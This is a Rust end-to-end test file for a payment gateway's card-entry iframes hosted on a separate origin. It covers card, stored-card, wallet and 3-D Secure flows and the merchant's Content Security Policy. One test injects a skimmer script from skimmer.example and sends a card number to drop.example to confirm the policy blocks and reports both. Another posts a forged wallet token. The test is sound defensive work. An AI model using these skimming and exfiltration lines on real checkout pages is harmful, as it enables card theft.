//! Card frames with a host of their own: every way to pay works as it does without, and no page of the gateway shares the
//! frames' origin.

use serde_json::json;
use thirtyfour::prelude::*;
use tillgate_tests::{Browser, CardForm, Gateway, Merchant, Page, Proxy, Site, browse, until};

use crate::APPROVED;
use crate::forms::click;

/// A merchant of a gateway whose frames have a host of their own, and its site.
struct Shop {
    merchant: Merchant,
    site: Site,
    fields: String,
}

impl Shop {
    async fn open(gateway: &Gateway, proxy: &Proxy, options: &[&str]) -> anyhow::Result<Self> {
        let merchant = gateway.merchant_with(options)?;
        gateway.command(&["wallet-key", "create", "--entity", &merchant.entity_id])?;
        let site = Site::start_at(&proxy.public).await?;
        let fields = proxy.public.replace("//pay.", "//fields.");
        // The merchant's policy: frames come from both hosts, scripts and styles from the public one.
        let origin = fields.trim_end_matches('/');
        site.set_policy(&format!(
            "default-src 'none'; script-src 'self' {{gateway}} 'wasm-unsafe-eval'; style-src 'self' {{gateway}}; \
             frame-src {{gateway}} {origin}; img-src 'self' data:; form-action 'self' {{gateway}}; base-uri 'none'"
        ));
        Ok(Self { merchant, site, fields: origin.to_owned() })
    }

    /// Opens a checkout in a page with these brands and options. The answer is its id.
    async fn visit(
        &self,
        browser: &Browser,
        brands: &str,
        options: &str,
        fields: &[(&str, &str)],
    ) -> anyhow::Result<String> {
        let checkout = self.merchant.checkout(&[&[("integrity", "true")], fields].concat()).await?;
        let script = format!("var wpwlOptions = {{ onReady() {{ window.told = 1; }}, {options} }};");
        browser.goto(self.site.add(Page::of(&checkout).brands(brands).script(&script))).await?;
        browser.until("window.told").await?;
        Ok(checkout.id().to_owned())
    }

    /// Waits for the result page, and asserts that the checkout is paid and that nothing broke the merchant's policy.
    async fn paid(&self, browser: &Browser, checkout: &str) -> anyhow::Result<()> {
        browser.query(By::Id("result")).first().await?;
        let status = self.merchant.status(checkout).await?;
        assert_eq!(status.code(), APPROVED, "{}", status.text);
        assert_eq!(browser.seen_of("violation").await?, Vec::<String>::new());
        Ok(())
    }
}

/// The origins of the frames of the page, as their documents know them, each once.
async fn origins(browser: &Browser) -> anyhow::Result<Vec<String>> {
    let mut origins = Vec::new();
    for frame in browser.find_all(By::Css("iframe[src^=http]")).await? {
        frame.enter_frame().await?;
        let origin = browser.value("location.origin").await;
        browser.enter_default_frame().await?;
        origins.push(origin?.as_str().unwrap_or_default().to_owned());
    }
    origins.sort();
    origins.dedup();
    Ok(origins)
}

/// Types into the input of a frame.
async fn enter(browser: &Browser, frame: &str, text: &str) -> anyhow::Result<()> {
    browser.query(By::Css(frame)).first().await?.enter_frame().await?;
    let typed = async { anyhow::Ok(browser.query(By::Css("input")).first().await?.send_keys(text).await?) }.await;
    browser.enter_default_frame().await?;
    typed
}

#[tokio::test]
async fn every_way_to_pay_works_with_frames_on_a_host_of_their_own() -> anyhow::Result<()> {
    let (gateway, proxy) = Gateway::start_with_fields_host().await?;
    let shop = Shop::open(&gateway, &proxy, &["--3d", "when-enrolled"]).await?;
    browse(move |browser| async move {
        // Holds the gateway for as long as the browser is there.
        let _gateway = gateway;
        card(&shop, &browser).await?;
        stored_card(&shop, &browser).await?;
        secure_fields(&shop, &browser).await?;
        wallet(&shop, &browser).await?;
        challenge(&shop, &browser).await
    })
    .await
}

async fn card(shop: &Shop, browser: &Browser) -> anyhow::Result<()> {
    let checkout = shop.visit(browser, "VISA", "", &[]).await?;
    let form = CardForm::ready(browser).await?;
    assert_eq!(origins(browser).await?, [shop.fields.as_str()]);
    form.fill().await?;
    form.pay().await?;
    shop.paid(browser, &checkout).await
}

async fn stored_card(shop: &Shop, browser: &Browser) -> anyhow::Result<()> {
    let card = [
        ("paymentBrand", "VISA"),
        ("card.number", "4200000000000000"),
        ("card.holder", "Jane Jones"),
        ("card.expiryMonth", "05"),
        ("card.expiryYear", "2034"),
    ];
    let stored = shop.merchant.post("v1/registrations", &card).await?;
    let offered = [("registrations[0].id", stored.id())];
    let checkout = shop.visit(browser, "VISA", "registrations: { requireCvv: true }", &offered).await?;
    enter(browser, ".wpwl-container-registration iframe.wpwl-control-cvv", "123").await?;
    assert_eq!(origins(browser).await?, [shop.fields.as_str()]);
    click(browser, ".wpwl-container-registration .wpwl-button-pay").await?;
    shop.paid(browser, &checkout).await?;
    let status = shop.merchant.status(&checkout).await?;
    assert_eq!(status.json["result"]["cvvResponse"], "M", "the code came along: {}", status.text);
    Ok(())
}

async fn secure_fields(shop: &Shop, browser: &Browser) -> anyhow::Result<()> {
    let checkout = shop.visit(browser, "VISA", "enableSAQACompliance: true", &[]).await?;
    let form = CardForm::ready(browser).await?;
    form.number("4200000000000000").await?;
    enter(browser, "iframe[name='card.expiry']", "1139").await?;
    enter(browser, "iframe[name='card.holder']", "Zora Quux").await?;
    form.code("123").await?;
    assert_eq!(origins(browser).await?, [shop.fields.as_str()]);
    form.pay().await?;
    shop.paid(browser, &checkout).await?;
    assert_eq!(shop.merchant.status(&checkout).await?.json["card"]["holder"], "Zora Quux");
    Ok(())
}

async fn wallet(shop: &Shop, browser: &Browser) -> anyhow::Result<()> {
    let checkout = shop.visit(browser, "APPLEPAY", "", &[]).await?;
    // A page that plays the sheet cannot hand in a token.
    let forged = "for (let i = 0; i < frames.length; i++) frames[i].postMessage(\
        { tillgateWallet: 1, form: 'x', token: 'forged' }, '*'); return 1";
    browser.execute(forged, vec![]).await?;
    click(browser, ".wpwl-button-brand-APPLEPAY").await?;
    browser.query(By::Css("dialog.wpwl-wallet[open] > iframe")).first().await?.enter_frame().await?;
    let public = browser.value("location.origin").await?;
    click(browser, "button[value='0']").await?;
    browser.enter_default_frame().await?;
    shop.paid(browser, &checkout).await?;
    assert_eq!(public, shop.fields.replace("//fields.", "//pay."), "the sheet does not share the frames' origin");
    let seen = browser.seen().await?;
    let mut agreed = seen.iter().filter(|seen| seen.kind == "message" && seen.detail.contains("agreed"));
    assert!(agreed.all(|seen| !seen.detail.contains("form: x;")), "the forged token was not taken: {seen:?}");
    assert!(seen.iter().all(|seen| !seen.detail.contains("TILLGATE_WALLET")), "no message to the page carries a token");
    Ok(())
}

async fn challenge(shop: &Shop, browser: &Browser) -> anyhow::Result<()> {
    let checkout = shop.visit(browser, "VISA", "", &[]).await?;
    let form = CardForm::ready(browser).await?;
    form.number("4200000000000042").await?;
    form.expiry("05 / 34").await?;
    form.holder("Jane Jones").await?;
    form.code("123").await?;
    form.pay().await?;
    const TARGET: &str = "iframe.wpwl-target";
    browser.until(&format!("document.querySelector('.wpwl-challenge > {TARGET}')?.checkVisibility()")).await?;
    browser.query(By::Css(TARGET)).first().await?.enter_frame().await?;
    let origin = browser.value("location.origin").await?;
    assert_eq!(
        origin,
        json!(shop.fields.replace("//fields.", "//pay.")),
        "the challenge does not share the frames' origin"
    );
    browser
        .query(By::Css(format!("select[name=returnCode] option[value='{APPROVED}']")))
        .first()
        .await?
        .click()
        .await?;
    browser.query(By::Css("input[type=submit]")).first().await?.click().await?;
    browser.enter_default_frame().await?;
    shop.paid(browser, &checkout).await
}

#[tokio::test]
async fn what_a_browser_stops_in_the_merchants_page_and_in_a_frame_is_reported() -> anyhow::Result<()> {
    let (gateway, proxy) = Gateway::start_with_fields_host().await?;
    let shop = Shop::open(&gateway, &proxy, &[]).await?;
    let fields = &shop.fields;
    shop.site.set_policy(&format!(
        "default-src 'none'; script-src 'self' {{gateway}} 'wasm-unsafe-eval'; style-src 'self' {{gateway}}; img-src 'self' data:; \
         frame-src {{gateway}} {fields}; form-action 'self'; report-uri {{gateway}}/v1/policyReports/{}",
        shop.merchant.entity_id
    ));
    browse(move |browser| async move {
        let _gateway = gateway;
        shop.visit(&browser, "VISA", "", &[]).await?;
        CardForm::ready(&browser).await?;
        let load =
            "const script = document.createElement('script'); script.src = 'https://skimmer.example/x.js?card=1';
            document.head.append(script); return 1";
        browser.execute(load, vec![]).await?;
        browser.query(By::Css(tillgate_tests::card_form::NUMBER)).first().await?.enter_frame().await?;
        let send = "fetch('https://drop.example/4200000000000000').catch(() => 0); return 1";
        browser.execute(send, vec![]).await?;
        browser.enter_default_frame().await?;
        let wanted = [
            ("script-src-elem", "https://skimmer.example", format!("{}pages/0", shop.site.public)),
            ("connect-src", "https://drop.example", format!("{}/v1/pciIframe.html", shop.fields)),
        ];
        for (directive, blocked, document) in wanted {
            until("the report", async || {
                let reports = shop.merchant.get("v1/policyReports").await?.json["policyReports"].clone();
                let found = reports.as_array().into_iter().flatten().any(|report| {
                    report["directive"] == directive
                        && report["blocked"] == blocked
                        && report["document"] == document.as_str()
                });
                Ok(found.then_some(()))
            })
            .await?;
        }
        Ok(())
    })
    .await
}
